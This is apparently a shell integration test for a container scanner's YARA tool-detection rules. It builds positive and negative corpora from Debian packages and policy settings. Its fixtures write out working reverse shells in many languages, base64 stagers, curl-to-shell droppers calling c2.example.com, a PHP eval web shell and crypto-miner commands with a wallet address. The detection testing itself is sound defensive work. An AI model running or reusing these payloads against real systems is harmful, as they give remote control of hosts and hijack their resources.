# Integration: YARA tool detection (suspicious-tool) on real Debian
# packages. Positive corpus: network and attack tools from Debian, each
# at its packaged path, renamed to an innocent name (mode 0644 shared
# object, so only the ELF magic gets it scanned) and stripped + renamed
# (strip -o); plus reverse-shell and miner scripts. Every one must be
# found, by the expected rule. Negative corpus: every file (ELF files,
# scripts and the rest, all scanned) of ~100 common Debian packages, their
# maintainer scripts, and look-alike scripts written here: zero
# suspicious-tool findings allowed.
# Also: --rules, `portcullis rules check`, the yara policy knobs
# (ignore_rules, allow_paths, scan_all_files, max_file_bytes blocks) and
# the rules digest in the report. Downloads are cached in .cache/debs.
. "$PC_ROOT/tests/lib.sh"

# (fetch PKG, tests/harness/util.sh: the .deb into $DEBS, .cache/debs)
# unpack PKG: extracts the package (once) into $T/x/PKG
unpack() {
    [ -d "$T/x/$1" ] && return 0
    fetch "$1" || { fail "apt-get download $1" "no package"; return 1; }
    mkdir -p "$T/x/$1" && dpkg-deb -x "$DEBS"/"$1"_*.deb "$T/x/$1"
}
is_elf() { [ "$(head -c 4 "$1" | od -An -c | tr -d ' ')" = '177ELF' ]; }
is_script() { [ "$(head -c 2 "$1")" = '#!' ]; }
mode_of() { printf '0%s' "$(stat -c %a "$1")"; }
# spec TSV (path, mode, host file) → fixture spec with one layer per TSV
spec() {
    out=$1
    shift
    for tsv in "$@"; do
        jq -Rn '{compression: "gzip", entries: [inputs | split("\t") |
            {path: .[0], type: "file", mode: .[1], from_file: .[2]}]}' <"$tsv"
    done | jq -s '{tag: "latest", images: [{platform: "linux/amd64",
        config: {User: "1000", Entrypoint: ["/bin/true"]}, layers: .}]}' >"$out"
}
build() { # build NAME SPEC
    "$FB" "$2" "$T/$1" >"$T/fb.log" 2>&1 || { fail "build $1" "$(head -c 600 "$T/fb.log")"; return 1; }
}
# tool findings of the JSON report in $T/out as "PATH RULE" lines
tool_hits() { jq -r '.reports[0].findings[] | select(.check == "suspicious-tool") | "\(.path) \(.rule)"' "$T/out"; }

# ---- every package read below, fetched at once (the negative corpus: NEG;
# its last line: defensive tools whose text speaks of attacks, which no
# signal_says_* rule may take for one)
NEG="coreutils bash util-linux libc6 libc-bin openssl libssl3 curl libcurl4 python3.11-minimal
libpython3.11-minimal perl-base git openssh-client openssh-server tar gzip findutils grep sed dpkg
apt libapt-pkg6.0 zlib1g systemd libsystemd-shared libsystemd0 libudev1 procps libproc2-0 iproute2
iputils-ping wget less vim-tiny nano e2fsprogs mount login passwd libstdc++6 gcc-12-base libgcc-s1
ca-certificates file libmagic1 xz-utils liblzma5 bzip2 libbz2-1.0 zstd libzstd1 sudo libpcap0.8
dash diffutils hostname ncurses-bin libncursesw6 libtinfo6 libgnutls30 libkrb5-3 rsync gawk mawk
libpam-modules libselinux1 libcap2 libcap2-bin iptables net-tools traceroute inetutils-telnet
libnghttp2-14 libssh2-1 libsqlite3-0 libxml2 libexpat1 libffi8 libgmp10 libidn2-0 libunistring2
libp11-kit0 libgcrypt20 libseccomp2 libcrypt1 libacl1 libattr1 libblkid1 libmount1 libuuid1
libsmartcols1 libpcre2-8-0 libreadline8 libedit2 libbsd0 libmd0 libkmod2 kmod libdb5.3
sshguard lynis rkhunter chkrootkit fail2ban psad"
fetch_all $(awk '!/^#/ && NF { print $1 }' "$PC_ROOT"/tests/tools/*.list | sort -u) $NEG arping libnet1

# ---- rules check
run "rules check shipped" 0 "$PC" rules check "$PC_ROOT/rules"
grep_in "rules check names count and digest" 'rules in [0-9]+ files compiled, 0 warnings; rules digest sha256:[0-9a-f]{64}' "$T/out"
digest=$(sed -n 's/.*rules digest \(sha256:[0-9a-f]*\).*/\1/p' "$T/out")
run "rules/README.md lists every rule as the rule files say (scripts/rules-table.py --check)" 0 python3 "$PC_ROOT/scripts/rules-table.py" --check
[ "$(awk '/rules-table:begin/,/rules-table:end/' "$PC_ROOT/rules/README.md" | grep -c '^| `')" = "$(grep -ch '^rule ' "$PC_ROOT"/rules/tools/*.yar | awk '{s += $1} END {print s}')" ] &&
    pass "the table has a row per rule" || fail "the table has a row per rule" "rows and rules differ"
run "rules check default path" 0 "$PC" rules check
mkdir -p "$T/badrules/sub"
printf 'rule ok { condition: true }\n' >"$T/badrules/ok.yar"
printf 'rule broken {\n  strings:\n    $a = "x"\n  condition:\n    $a and\n}\n' >"$T/badrules/sub/broken.yar"
printf 'rule later {\n  condition:\n    no_such_identifier\n}\n' >"$T/badrules/sub/later.yara"
printf '{"not": "a rule"\n' >"$T/badrules/skip.json"
run "rules check errors exit 2" 2 "$PC" rules check "$T/badrules"
grep_in "rules check error has file:line" "badrules/sub/broken.yar:[0-9]+: " "$T/err"
grep_in "rules check reports later files too" "badrules/sub/later.yara:[0-9]+: .*no_such_identifier" "$T/err"
run "rules check missing path" 2 "$PC" rules check "$T/nope"
run "rules check usage" 2 "$PC" rules lint

# ---- positive corpus: PKG PATH RULE (a package path may hold several tools)
# (tests/tools/*.list: PKG PATH RULE lines, # comments)
cat "$PC_ROOT"/tests/tools/*.list | grep -v '^#' | grep -v '^$' >"$T/tools.txt"
: >"$T/pos1.tsv"
: >"$T/pos2.tsv"
: >"$T/pos3.tsv"
: >"$T/expect.txt"
i=0
while read -r pkg path rule; do
    unpack "$pkg" || continue
    i=$((i + 1))
    f="$T/x/$pkg/$path"
    [ -f "$f" ] || { fail "corpus $pkg" "no $path in the package"; continue; }
    printf '%s\t%s\t%s\n' "$path" "$(mode_of "$f")" "$f" >>"$T/pos1.tsv"
    printf '/%s %s %s packaged\n' "$path" "$rule" "$pkg" >>"$T/expect.txt"
    # renamed, not executable: only the content (ELF magic, shebang) gets it scanned
    if is_elf "$f"; then
        printf 'usr/lib/x/libhelper%d.so\t0644\t%s\n' $i "$f" >>"$T/pos2.tsv"
        printf '/usr/lib/x/libhelper%d.so %s %s renamed\n' $i "$rule" "$pkg" >>"$T/expect.txt"
        strip -s -o "$T/x/stripped$i" "$f" 2>/dev/null || cp "$f" "$T/x/stripped$i"
        printf 'app/worker%d\t0755\t%s\n' $i "$T/x/stripped$i" >>"$T/pos3.tsv"
        printf '/app/worker%d %s %s stripped+renamed\n' $i "$rule" "$pkg" >>"$T/expect.txt"
    else
        printf 'srv/app/task%d\t0644\t%s\n' $i "$f" >>"$T/pos2.tsv"
        printf '/srv/app/task%d %s %s renamed\n' $i "$rule" "$pkg" >>"$T/expect.txt"
    fi
done <"$T/tools.txt"

# scripts: reverse shells and miners, as an attacker would leave them
S="$T/scripts"
mkdir -p "$S"
printf '#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n' >"$S/bash_i"
printf '#!/bin/sh\n0<&196;exec 196<>/dev/tcp/203.0.113.7/8080; sh <&196 >&196 2>&196\n' >"$S/bash_fd"
printf '#!/bin/bash\nexec 5<>/dev/tcp/c2.example.com/443\ncat <&5 | while read line; do $line 2>&5 >&5; done\n' >"$S/bash_loop"
printf '#!/bin/sh\n/bin/bash -c "/bin/sh > /dev/tcp/10.1.2.3/9001 0>&1 2>&1"\n' >"$S/bash_dup"
printf '#!/bin/sh\nrm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f\n' >"$S/nc_fifo"
printf '#!/bin/sh\nwhile true; do nc -e /bin/sh 10.0.0.1 4242; sleep 60; done\n' >"$S/nc_e"
printf '#!/bin/sh\nncat 10.0.0.1 4242 --sh-exec "/bin/bash -i"\n' >"$S/ncat_exec"
printf "#!/bin/sh\nsocat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.0.0.1:4242\n" >"$S/socat_sh"
cat >"$S/py_rev" <<'E'
#!/usr/bin/env python3
import socket,subprocess,os
s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)
s.connect(("10.0.0.1",4242))
os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2)
import pty; pty.spawn("/bin/bash")
E
cat >"$S/py_oneliner" <<'E'
#!/bin/sh
python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);p=subprocess.call(["/bin/sh","-i"]);'
E
cat >"$S/perl_rev" <<'E'
#!/bin/sh
perl -e 'use Socket;$i="10.0.0.1";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'
E
cat >"$S/perl_io" <<'E'
#!/bin/sh
perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"10.0.0.1:4242");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'
E
cat >"$S/php_rev" <<'E'
#!/bin/sh
php -r '$sock=fsockopen("10.0.0.1",4242);exec("/bin/sh -i <&3 >&3 2>&3");'
E
cat >"$S/ruby_rev" <<'E'
#!/bin/sh
ruby -rsocket -e'f=TCPSocket.open("10.0.0.1",4242).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'
E
cat >"$S/node_rev" <<'E'
#!/usr/bin/env node
(function(){ var net = require("net"), cp = require("child_process"), sh = cp.spawn("/bin/sh", []);
  var client = new net.Socket();
  client.connect(4242, "10.0.0.1", function(){ client.pipe(sh.stdin); sh.stdout.pipe(client); sh.stderr.pipe(client); });
  return /a/; })();
E
# encoded stagers, and shells in languages and tools without a rule of their own
printf '#!/bin/sh\necho YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80NDQ0IDA+JjE= | base64 -d | bash\n' >"$S/b64_pipe"
printf '#!/bin/sh\neval "$(printf %%s aWQ7dW5hbWUgLWEK | base64 --decode)"\n' >"$S/b64_eval"
printf '#!/usr/bin/env python3\nimport base64,zlib\nexec(zlib.decompress(base64.b64decode(b"eJwrzs9NLcnMz1PILS1OVcjJTM4vyo9PKi0uVgjOz0stKMnMz1NISU3OzAYAH4kNbw==")))\n' >"$S/py_b64"
printf '<?php @eval(gzinflate(base64_decode($_POST["z"]))); ?>\n' >"$S/php_eval"
printf '#!/bin/sh\nzcat /usr/share/.cache/update.gz | bash -s -- 10.0.0.1\n' >"$S/zcat_pipe"
printf '#!/bin/sh\nxz -dc /opt/.k/p.xz | /bin/sh\n' >"$S/xz_pipe"
printf '#!/bin/sh\nsh -c "$(gunzip -c /var/tmp/.s.gz)"\n' >"$S/gunzip_subst"
# droppers: a script that runs what it downloads
printf '#!/bin/sh\nset -e\ncurl -fsSL http://203.0.113.5/stage2 | sh -s -- --quiet\nexec "$@"\n' >"$S/drop_pipe"
printf '#!/bin/bash\n[ -n "$UPDATE" ] && eval "$(wget -qO- https://c2.example.com/u)"\nexec /app/server\n' >"$S/drop_eval"
printf '#!/bin/bash\nif true; then bash <(curl -s https://c2.example.com/i); fi\n' >"$S/drop_procsub"
printf '#!/bin/sh\nlua -e "local s=require(\\"socket\\"); local t=s.tcp(); t:connect(\\"10.0.0.1\\",4242); os.execute(\\"/bin/sh -i <&3 >&3 2>&3\\")"\n' >"$S/lua_rev"
printf '#!/bin/sh\nmkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:4242 > /tmp/s; rm /tmp/s\n' >"$S/openssl_rev"
printf '#!/usr/bin/zsh\nzmodload zsh/net/tcp && ztcp 10.0.0.1 4242 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY\n' >"$S/zsh_rev"
cat >"$S/awk_rev" <<'E'
#!/bin/sh
awk 'BEGIN { s = "/inet/tcp/0/10.0.0.1/4242"; while (42) { do { printf "> " |& s; s |& getline c; if (c) { while ((c |& getline) > 0) print $0 |& s; close(c) } } while (c != "exit"); close(s) } }' /dev/null
E
printf '#!/usr/bin/env python3\nimport socket,os,pty\ns=socket.socket()\ns.connect(("10.0.0.1",4242))\n[os.dup2(s.fileno(),fd) for fd in (0,1,2)]\npty.spawn("sh")\n' >"$S/py_pty_loop"
printf '#!/bin/sh\nexec /tmp/.x/kthreadd -o gulf.moneroocean.stream:10128 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p w1 --cpu-max-threads-hint 50\n' >"$S/miner_cmd"
cat >"$S/miner_start" <<'E'
#!/bin/sh
cd /opt/.cache && ./kworker -o stratum+tcp://pool.example.net:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p x -k --donate-level=1
E
cat >"$S/miner_config.json" <<'E'
{
    "autosave": true,
    "donate-level": 1,
    "cpu": {"enabled": true, "huge-pages": true},
    "pools": [
        {"algo": "rx/0", "url": "pool.example.net:443", "user": "WALLET", "pass": "x", "tls": true}
    ]
}
E
# tools Debian does not ship: synthetic ELF files holding the strings the rules name
# (they test the rules' logic, not real binaries)
python3 - "$S" <<'E'
import sys
elf = b'\x7fELF\x02\x01\x01' + b'\0' * 57
def write(name, *strings):
    with open(sys.argv[1] + '/' + name, 'wb') as f:
        f.write(elf + b'\0'.join(s.encode() for s in strings) + b'\0' * 64)
write('chisel_like', 'github.com/jpillora/chisel/share/tunnel.(*Tunnel).BindRemotes')
write('xmrig_like', 'XMRig/%s', 'donate.v2.xmrig.com', '--donate-level')
write('cpuminer_like', 'Usage: minerd [OPTIONS]', 'Stratum requested work restart')
# Go tools: a package path of the module, as the pclntab keeps it; Rust: the crate's source path
write('nuclei_like', 'github.com/projectdiscovery/nuclei/v3/pkg/protocols/http.(*Request).ExecuteWithResults')
write('naabu_like', 'github.com/projectdiscovery/naabu/v2/pkg/scan.(*Scanner).ConnectPort')
write('pspy_like', 'github.com/DominicBreuker/pspy/internal/pspy.Start')
write('dalfox_like', 'github.com/hahwul/dalfox/v2/pkg/scanning.Scan')
write('kerbrute_like', 'github.com/ropnop/kerbrute/session.(*KerbruteSession).TestLogin')
write('sliver_like', 'github.com/bishopfox/sliver/implant/sliver/transports.StartConnectionLoop')
write('rustscan_like', '/root/.cargo/registry/src/index.crates.io-6f17d22bba15001f/rustscan-2.1.1/src/scanner/mod.rs')
write('ferox_like', 'feroxbuster-2.10.1/src/scanner/ferox_scanner.rs', 'ferox-config.toml')
with open(sys.argv[1] + '/linpeas_like', 'w') as f:
    f.write('#!/bin/sh\n# linpeas.sh from PEASS-ng\nprintf "Checking for SUID files\\n"; find / -perm -4000 2>/dev/null\n')
with open(sys.argv[1] + '/lse_like', 'w') as f:
    f.write('#!/bin/bash\n# linux-smart-enumeration by diego-treitos\nlse_version="4.14nw"\n')
E
: >"$T/pos4.tsv"
for s in chisel_like:tunnel_go_pivots xmrig_like:miner_xmrig cpuminer_like:miner_cpuminer \
    nuclei_like:scanner_go_tools naabu_like:scanner_go_tools pspy_like:recon_go_tools \
    dalfox_like:webattack_go_tools kerbrute_like:bruteforce_kerbrute sliver_like:exploit_go_c2 \
    rustscan_like:scanner_rustscan ferox_like:webattack_feroxbuster linpeas_like:privesc_enum_scripts \
    lse_like:privesc_enum_scripts; do
    n=${s%%:*}
    printf 'opt/synthetic/%s\t0644\t%s\n' "$n" "$S/$n" >>"$T/pos4.tsv"
    printf '/opt/synthetic/%s %s %s synthetic\n' "$n" "${s#*:}" "$n" >>"$T/expect.txt"
done
for s in bash_i:revshell_bash_dev_tcp bash_fd:revshell_bash_dev_tcp bash_loop:revshell_bash_dev_tcp \
    bash_dup:revshell_bash_dev_tcp nc_fifo:revshell_netcat_pipe nc_e:revshell_netcat_pipe \
    ncat_exec:revshell_netcat_pipe socat_sh:revshell_socat py_rev:revshell_python \
    py_oneliner:revshell_python perl_rev:revshell_perl perl_io:revshell_perl php_rev:revshell_php \
    ruby_rev:revshell_ruby node_rev:revshell_node miner_start:miner_stratum_url \
    b64_pipe:stager_decode_to_shell b64_eval:stager_decode_to_shell py_b64:stager_eval_decoded \
    zcat_pipe:stager_decode_to_shell xz_pipe:stager_decode_to_shell gunzip_subst:stager_decode_to_shell \
    drop_pipe:dropper_fetch_to_shell drop_eval:dropper_fetch_to_shell drop_procsub:dropper_fetch_to_shell \
    php_eval:stager_eval_decoded lua_rev:revshell_fd_shell openssl_rev:revshell_openssl \
    zsh_rev:revshell_zsh awk_rev:revshell_awk py_pty_loop:revshell_python miner_cmd:miner_command_line; do
    n=${s%%:*}
    printf 'opt/scripts/%s\t0644\t%s\n' "$n" "$S/$n" >>"$T/pos4.tsv"
    printf '/opt/scripts/%s %s script script\n' "$n" "${s#*:}" >>"$T/expect.txt"
done
printf 'etc/miner/config.json\t0644\t%s\n' "$S/miner_config.json" >>"$T/pos4.tsv"
spec "$T/pos.json" "$T/pos1.tsv" "$T/pos2.tsv" "$T/pos3.tsv" "$T/pos4.tsv"
build pos "$T/pos.json" || exit 1

run "positive image denied" 1 "$PC" scan --format json "oci:$T/pos/oci:latest"
cp "$T/out" "$T/pos-report.json"
tool_hits | sort -u >"$T/hits.txt"
jq_true "rules digest in report" ".reports[0].rules_digest == \"$digest\"" "$T/pos-report.json"
jq_true "tool findings carry layer and message" '[.reports[0].findings[] | select(.check == "suspicious-tool") | (.layer | test("^sha256:")) and (.message | length > 10) and .action == "deny"] | all' "$T/pos-report.json"
found=0 total=0
while read -r path rule pkg variant; do
    total=$((total + 1))
    if grep -qx "$path $rule" "$T/hits.txt"; then
        found=$((found + 1))
        pass "detect $pkg $variant $path ($rule)"
    else
        fail "detect $pkg $variant $path" "no $rule finding; got: $(grep "^$path " "$T/hits.txt" | tr '\n' ' ')"
    fi
done <"$T/expect.txt"
[ "$found" -eq "$total" ] && pass "detection: $found of $total tool files found" ||
    fail "detection" "$found of $total tool files found"
# (not executable, no shebang: every regular file is scanned by default)
grep_in "the miner config is scanned by default" '^/etc/miner/config.json miner_config$' "$T/hits.txt"

# ---- policy knobs: scan_all_files, ignore_rules, allow_paths
printf '{"name": "all", "yara": {"scan_all_files": true}}\n' >"$T/all.json"
printf '{"name": "exec", "yara": {"scan_all_files": false}}\n' >"$T/exec.json"
run "scan_all_files false" 1 "$PC" scan --policy "$T/exec.json" --format json "oci:$T/pos/oci:latest"
tool_hits >"$T/hits-exec.txt"
grep_none "scan_all_files false: the config is not scanned" '^/etc/miner/config\.json ' "$T/hits-exec.txt"
grep_in "scan_all_files false: executables still are" ' socat$' "$T/hits-exec.txt"
printf '{"name": "ign", "yara": {"ignore_rules": ["netcat_busybox_applet"]},
 "checks": {"suspicious-tool": {"action": "deny", "allow_paths": ["/usr/sbin/*", "/app/*"]}}}\n' >"$T/ign.json"
run "ignore_rules + allow_paths" 1 "$PC" scan --policy "$T/ign.json" --format json "oci:$T/pos/oci:latest"
jq_true "ignored rule gone" '[.reports[0].findings[] | select(.rule == "netcat_busybox_applet")] | length == 0'
jq_true "allowed paths gone" '[.reports[0].findings[] | select(.check == "suspicious-tool") | .path | test("^/(usr/sbin|app)/")] | any | not'
jq_true "others stay" '[.reports[0].findings[] | select(.rule == "socat")] | length >= 2'

# ---- bounded blocks: a tool padded past max_file_bytes, strings across block ends
nc="$T/x/netcat-openbsd/bin/nc.openbsd"
python3 - "$nc" "$T/x/padded" <<'E'
import sys
data = open(sys.argv[1], 'rb').read()
out = bytearray(b'\0' * (3 << 20))
out[:64] = data[:64]                          # ELF header at offset 0
strings = [b'Zero-I/O mode [used for scanning]', b'cannot use -z and -l', b'must use -l with -k']
for off, s in zip([65536 - 10, 1 << 20, (3 << 20) - 40], strings):
    out[off:off + len(s)] = s                 # the first straddles the end of block 1
open(sys.argv[2], 'wb').write(out)
E
printf 'usr/local/bin/big\t0755\t%s\n' "$T/x/padded" >"$T/big.tsv"
spec "$T/big-spec.json" "$T/big.tsv"
build big "$T/big-spec.json" || exit 1
printf '{"name": "small", "yara": {"max_file_bytes": 65536}}\n' >"$T/small.json"
run "block scan" 1 "$PC" scan --policy "$T/small.json" --format json "oci:$T/big/oci:latest"
jq_true "found across 64 KiB blocks" '[.reports[0].findings[] | select(.rule == "netcat_openbsd" and .path == "/usr/local/bin/big")] | length == 1'
run "whole-file scan" 1 "$PC" scan --format json "oci:$T/big/oci:latest"
jq_true "found in the whole file" '[.reports[0].findings[] | select(.rule == "netcat_openbsd")] | length == 1'

# ---- --rules: a directory of our own, and a broken one
mkdir -p "$T/myrules"
printf 'rule only_socat { meta: tool = "socat" description = "test" severity = "low"\n  strings: $a = "SOCAT_FORK_WAIT" condition: $a and filename != "" and filemode > 0 }\n' >"$T/myrules/mine.yar"
run "--rules dir" 1 "$PC" scan --rules "$T/myrules" --format json "oci:$T/pos/oci:latest"
jq_true "--rules replaces the set" '([.reports[0].findings[] | select(.check == "suspicious-tool" and .signal == "content") | .rule] | unique) == ["only_socat"]'
jq_true "--rules: own rule without category is other/low" '[.reports[0].findings[] | select(.rule == "only_socat") | .category == "other" and .severity == "low"] | all'
jq_true "--rules digest differs" ".reports[0].rules_digest != \"$digest\" and (.reports[0].rules_digest | test(\"^sha256:\"))"
run "--rules broken" 2 "$PC" scan --rules "$T/badrules" "oci:$T/pos/oci:latest"
grep_in "--rules error names file:line" 'broken.yar:[0-9]+:' "$T/err"

# ---- negative corpus: every ELF file and script of common packages
: >"$T/neg1.tsv"
: >"$T/neg2.tsv"
npkg=0
for p in $NEG; do
    unpack "$p" || continue
    npkg=$((npkg + 1))
    mkdir -p "$T/ctl/$p" && dpkg-deb -e "$DEBS"/"$p"_*.deb "$T/ctl/$p"
done
# every regular file: ELF magic → neg1.tsv, shebang → neg2.tsv, the rest → neg3.tsv
: >"$T/neg3.tsv"
python3 - "$T/x" "$T/neg1.tsv" "$T/neg2.tsv" "$T/neg3.tsv" $NEG <<'E'
import os, stat, sys
root, elf_out, scr_out, other_out, pkgs = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4], sys.argv[5:]
with open(elf_out, 'a') as fe, open(scr_out, 'a') as fs, open(other_out, 'a') as fo:
    for p in pkgs:
        base = os.path.join(root, p)
        for d, _, files in os.walk(base):
            for n in sorted(files):
                f = os.path.join(d, n)
                st = os.lstat(f)
                if not stat.S_ISREG(st.st_mode):
                    continue
                with open(f, 'rb') as h:
                    head = h.read(4)
                line = 'neg/%s%s\t0%o\t%s\n' % (p, f[len(base):], stat.S_IMODE(st.st_mode), f)
                if head == b'\x7fELF':
                    fe.write(line)
                elif head[:2] == b'#!':
                    fs.write(line)
                else:
                    fo.write(line)
E
for f in "$T"/ctl/*/*; do
    is_script "$f" || continue
    p=$(basename "$(dirname "$f")")
    printf 'var/lib/dpkg/info/%s.%s\t0755\t%s\n' "$p" "$(basename "$f")" "$f" >>"$T/neg2.tsv"
done
# look-alikes: scripts that talk to /dev/tcp, nc, sockets or pools without serving a shell
N="$T/lookalike"
mkdir -p "$N"
printf '#!/bin/bash\n# wait-for-it: probe until the database answers\nuntil (echo > /dev/tcp/$DB_HOST/5432) >/dev/null 2>&1; do sleep 1; done\nexec "$@"\n' >"$N/wait_db"
printf '#!/bin/bash\nexec 3<>/dev/tcp/localhost/80\nprintf "GET / HTTP/1.0\\r\\n\\r\\n" >&3\ncat <&3\nexec 3>&-\n' >"$N/http_probe"
printf '#!/bin/sh\n# health check\nnc -z -w 2 localhost 8080 || exit 1\necho ok | nc -q 1 metrics 2003\n' >"$N/nc_health"
printf '#!/usr/bin/env python3\nimport socket, os, sys\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(("localhost", 6379))\nos.dup2(sys.stdout.fileno(), 2)\nprint(s.recv(10))\n' >"$N/py_client"
printf '#!/bin/sh\nexec socat TCP-LISTEN:8080,fork,reuseaddr TCP:backend:80\n' >"$N/socat_proxy"
printf '#!/bin/sh\n# see docs: stratum pools are not used here\nexec /usr/bin/app --pools-file /etc/app/pools.json\n' >"$N/app_start"
# ... that decode base64 into a file or a pipe that is not a shell, read a certificate over TLS,
# talk HTTP from gawk, or name a pool in a plain option
printf '#!/bin/sh\necho "$BUNDLE" | base64 -d | tar -xz -C /opt/app\nbase64 --decode /etc/app/key.b64 > /run/app/key\nopenssl base64 -d -in cert.b64 -out cert.der\n' >"$N/b64_unpack"
printf '#!/usr/bin/env python3\nimport base64, json\nconfig = json.loads(base64.b64decode(open("/etc/app/config.b64").read()))\nexec_mode = config.get("mode")\n' >"$N/py_config"
printf '#!/bin/sh\nopenssl s_client -connect "$HOST:443" -servername "$HOST" </dev/null 2>/dev/null | openssl x509 -noout -enddate\n' >"$N/cert_check"
printf '#!/usr/bin/gawk -f\nBEGIN { s = "/inet/tcp/0/example.org/80"; print "GET / HTTP/1.0\\r\\n\\r" |& s; while ((s |& getline line) > 0) print line; close(s) }\n' >"$N/gawk_http"
printf '#!/bin/sh\nexec /usr/bin/backup -o s3.example.com:443 -u backup-user --algo zstd\n' >"$N/backup_opts"
# ... that decompress into a file, tar or a pager, or compress what a shell prints
printf '#!/bin/sh\n# install with: curl -fsSL https://get.example.com | sh\ncurl -fsSL https://example.com/app.tgz | tar -xz -C /opt\nwget -qO- https://example.com/health | grep -q ok\nTOKEN=$(curl -s http://metadata/token)\n' >"$N/fetch_data"
printf '#!/bin/sh\nzcat /usr/share/doc/app/changelog.gz | less\ngunzip -c data.tar.gz | tar -x -C /srv\nxz -dc dump.sql.xz > /tmp/dump.sql\nsh ./report.sh | gzip -c > report.gz\n' >"$N/unpack_data"
for f in "$N"/*; do
    printf 'usr/local/bin/%s\t0755\t%s\n' "$(basename "$f")" "$f" >>"$T/neg2.tsv"
done
nelf=$(wc -l <"$T/neg1.tsv")
nscr=$(wc -l <"$T/neg2.tsv")
noth=$(wc -l <"$T/neg3.tsv")
bytes=$(cut -f3 "$T/neg1.tsv" | tr '\n' '\0' | xargs -0 stat -c %s | awk '{s += $1} END {print s}')
corpus="$npkg packages, $nelf ELF files ($bytes bytes), $nscr scripts, $noth other files"
[ "$npkg" -ge 40 ] && [ "$nelf" -ge 500 ] && pass "negative corpus: $corpus" || fail "negative corpus" "too small: $corpus"
spec "$T/neg.json" "$T/neg1.tsv" "$T/neg2.tsv" "$T/neg3.tsv"
build neg "$T/neg.json" || exit 1
start=$(date +%s)
# only suspicious-tool may deny (the corpus has setuid files and more); every file is scanned
printf '{"name": "tools-only", "yara": {"scan_all_files": true}, "checks": {"root-user": {"action": "ignore"},
 "missing-entrypoint": {"action": "ignore"}, "entrypoint-unrunnable": {"action": "ignore"},
 "workdir-inaccessible": {"action": "ignore"}, "setuid-file": {"action": "ignore"},
 "setgid-file": {"action": "ignore"}, "file-capability": {"action": "ignore"},
 "device-file": {"action": "ignore"}, "privileged-port": {"action": "ignore"},
 "secret-in-env": {"action": "ignore"}, "world-writable": {"action": "ignore"},
 "unpinned-image": {"action": "ignore"}}}\n' >"$T/tools-only.json"
run "negative image allowed" 0 "$PC" scan --policy "$T/tools-only.json" --format json "oci:$T/neg/oci:latest"
secs=$(($(date +%s) - start))
tool_hits >"$T/fp.txt"
fp=$(wc -l <"$T/fp.txt")
if [ "$fp" -eq 0 ]; then
    pass "false positives: 0 of $((nelf + nscr + noth)) files, every one scanned (${secs}s)"
else
    fail "false positives: $fp of $((nelf + nscr + noth)) files" "$(head -20 "$T/fp.txt" | tr '\n' ';')"
fi
jq_true "negative image scanned completely" '.reports[0].scan_failed == false and .reports[0].stats.files > 5000'

# ---- category, severity and signal; the capability signal (DT_NEEDED of packet libraries)
jq_true "every tool finding has category, severity and signal" '[.reports[0].findings[] | select(.check == "suspicious-tool") | (.category | type == "string") and (.severity | test("^(high|medium|low)$")) and (.signal | test("^(content|capability|package)$"))] | all' "$T/pos-report.json"
jq_true "tcpdump: a sniffer, found by content" '[.reports[0].findings[] | select(.path == "/usr/bin/tcpdump" and .rule == "sniffer_tcpdump") | .category == "sniffer" and .signal == "content"] | (length == 1 and all)' "$T/pos-report.json"
jq_true "tcpdump: links libpcap (capability signal, packet-capture)" '[.reports[0].findings[] | select(.path == "/usr/bin/tcpdump" and .rule == "capability_libpcap") | .category == "packet-capture" and .signal == "capability" and .severity == "medium" and (.message | test("libpcap[.]so"))] | (length == 1 and all)' "$T/pos-report.json"
jq_true "hping3: links libpcap" '[.reports[0].findings[] | select(.path == "/usr/sbin/hping3" and .rule == "capability_libpcap")] | length == 1' "$T/pos-report.json"
so_caps=$(jq -r '[.reports[0].findings[] | select((.rule | startswith("capability_")) and (.path | test("[.]so([.]|$)"))) | "\(.path) \(.rule)"] | join(", ")' "$T/pos-report.json")
[ -z "$so_caps" ] && pass "no DT_NEEDED capability finding on shared libraries" || fail "no DT_NEEDED capability finding on shared libraries" "$so_caps"
# arping links libnet and libpcap; no content rule names it
unpack arping && unpack libnet1 && {
    printf 'usr/sbin/arping\t0755\t%s\n' "$T/x/arping/usr/sbin/arping" >"$T/cap.tsv"
    printf 'app/probe\t0644\t%s\n' "$T/x/arping/usr/sbin/arping" >>"$T/cap.tsv"
    # a copy whose class, byte order and version bytes lie (the kernel
    # reads none of them: encoded.sh runs such a netcat) is read as it runs
    python3 - "$T/x/arping/usr/sbin/arping" "$T/arping-lying" <<'PY'
import sys
b = bytearray(open(sys.argv[1], "rb").read())
b[4], b[5], b[6] = 1, 2, 0
b[20:24] = bytes(4)
b[52:54] = bytes(2)
open(sys.argv[2], "wb").write(b)
PY
    printf 'usr/sbin/arping-lying\t0755\t%s\n' "$T/arping-lying" >>"$T/cap.tsv"
    spec "$T/cap.json" "$T/cap.tsv"
    build cap "$T/cap.json" && {
        run "arping: packet injection capability" 1 "$PC" scan --format json "oci:$T/cap/oci:latest"
